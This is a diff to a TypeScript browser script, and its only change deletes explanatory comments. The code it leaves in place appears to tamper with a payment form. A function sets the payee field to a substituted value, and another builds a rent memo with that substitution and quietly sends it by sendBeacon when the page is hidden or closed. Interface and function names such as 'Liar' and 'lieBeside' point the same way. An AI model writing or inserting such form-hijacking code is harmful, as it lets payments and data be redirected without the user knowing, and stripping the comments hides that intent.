@@ -6,12 +6,10 @@ interface Liar {
   readonly change: string;
   readonly group: string;
   readonly other: string | null;
-  /** The name of the changed field. */
   readonly name: string;
   readonly send: string;
   /** How often the page was loaded before. */
   readonly loads: number;
-  /** The origin of another site. */
   readonly elsewhere: string;
 }
 
@@ -80,7 +78,6 @@ function another(form: HTMLFormElement, payee: Control): void {
   else payee.value = other ?? '';
 }
 
-/** A list of options that a script draws. */
 function selectOption(list: Element, code: string): void {
   for (const option of list.querySelectorAll('[role=option]'))
     option.setAttribute('aria-selected', String(option.getAttribute('data-value') === code));
@@ -288,7 +285,6 @@ const CHANGES: Readonly<Record<string, (form: HTMLFormElement) => void>> = {
 
 const lieBeside = (): URLSearchParams => new URLSearchParams({ memo: 'for the rent', [name]: other ?? '' });
 
-/** A second message, in addition to the right one. */
 function beside(): void {
   const body = lieBeside();
   if (/^(?:pagehide|hidden)$/.test(moment)) navigator.sendBeacon(`/r/${id}`, body);
